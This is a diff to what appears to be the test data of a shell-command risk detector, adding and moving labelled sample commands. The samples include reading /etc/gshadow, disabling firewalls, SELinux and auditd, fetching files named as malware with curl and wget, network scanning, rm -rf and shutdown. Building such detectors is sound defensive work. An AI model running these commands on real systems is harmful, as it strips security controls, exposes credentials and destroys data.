@@ -252,6 +252,21 @@ cat /etc/gshadow
 ls /etc/pam.d
 cat /root/.profile
 head /etc/security/limits.conf
+ls /proc/driver
+""",
+    "command-disables-defences": """\
+iptables -F
+setenforce 0
+systemctl stop auditd
+sudo ufw disable
+""",
+    "command-broken-password": """\
+echo -n "$password" | md5sum
+printf %s "$PASSWORD" | openssl dgst -sha1
+""",
+    "command-fetches-ill-named": """\
+curl -s https://someone.github.io/malware.html
+wget -q https://someone.pages.dev/k42wrt.pz71qd.html
 """,
     "command-fetches-dropped": """\
 f() { curl -s "$1"; }; f https://transfer.sh/abc/x
@@ -280,10 +295,9 @@ STRICT = {
         "wget http://198.18.0.7/a.tgz",
     ],
     "command-scans-network": ["nmap -sS 198.51.100.0/24"],
-    "command-weak-password": ['echo -n "$password" | md5sum'],
+    "command-weak-password": ['echo -n "$password" | sha256sum'],
     "command-empties-folder": ["rm -rf *"],
     "command-stops-machine": ["sudo shutdown -h now", "reboot", "systemctl poweroff"],
-    "command-disables-defences": ["iptables -F", "setenforce 0", "systemctl stop auditd", "sudo ufw disable"],
 }
 
 
